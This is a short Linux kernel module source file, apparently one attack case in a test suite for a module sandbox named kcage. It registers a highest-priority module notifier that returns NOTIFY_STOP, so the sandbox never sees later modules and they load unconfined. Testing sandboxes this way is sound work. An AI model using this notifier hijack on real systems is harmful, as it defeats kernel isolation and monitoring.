// SPDX-License-Identifier: GPL-2.0
/*
 * atk_fc_notifier: a module notifier at the highest priority that stops
 * the chain (NOTIFY_STOP, which does not fail the load) when any later
 * module comes, so that kcage's takeover at MODULE_STATE_COMING never
 * sees it and it would run natively.  Its policy allows
 * register_module_notifier(); the attack is the notifier's return value.
 */
#define ATTACK_CLEANUP
#include <linux/limits.h>
#include <linux/module.h>
#include <linux/notifier.h>
#include "attack.h"

static bool registered;

static int stop_coming(struct notifier_block *nb, unsigned long state,
		       void *data)
{
	return state == MODULE_STATE_COMING ? NOTIFY_STOP : NOTIFY_DONE;
}

static struct notifier_block first_nb = {
	.notifier_call = stop_coming,
	.priority = INT_MAX,
};

static int attack(struct file *f)
{
	int ret = 0;

	if (!registered)
		ret = register_module_notifier(&first_nb);
	registered = !ret;
	return ret;
}

static void attack_cleanup(void)
{
	if (registered)
		unregister_module_notifier(&first_nb);
}
